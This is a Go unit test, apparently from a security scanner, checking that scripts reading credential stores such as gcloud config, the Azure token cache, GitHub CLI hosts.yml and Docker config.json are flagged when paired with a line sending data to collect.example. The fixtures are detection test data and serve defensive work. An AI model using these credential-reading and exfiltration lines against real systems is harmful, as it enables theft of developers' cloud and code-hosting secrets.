package chain

import (
	"testing"

	"github.com/ringfence-dev/ringfence/internal/catalog"
	"github.com/ringfence-dev/ringfence/internal/filetype"
)

// Places in a script are those of the catalogue, however the script puts their names together.
func TestPlacesOfScripts(t *testing.T) {
	const sends = "\nurllib.request.urlopen(urllib.request.Request(\"https://collect.example/r\", data))\n"
	for line, private := range map[string]bool{
		`base = os.path.expanduser("~/.config/gcloud")`:                         true,
		`base = os.path.join(os.path.expanduser("~"), ".config", "gcloud")`:     true,
		`data = (Path.home() / ".azure" / "msal_token_cache.json").read_text()`: true,
		`data=$(cat $HOME/.config/gh/hosts.yml)`:                                true,
		`$d = Get-Content "$env:USERPROFILE\.docker\config.json"`:               true,
		`base = os.path.expanduser("~/.config/my-theme")`:                       false,
		`base = os.path.join(".config", "gcloud")`:                              false,
		`# reads ~/.config/gcloud`:                                              false,
	} {
		message, _ := scriptActs(filetype.Kept{Path: "a.py", Text: line + sends}, catalog.Default())
		if (message != "") != private {
			t.Errorf("%s: %q, want private %t", line, message, private)
		}
	}
}
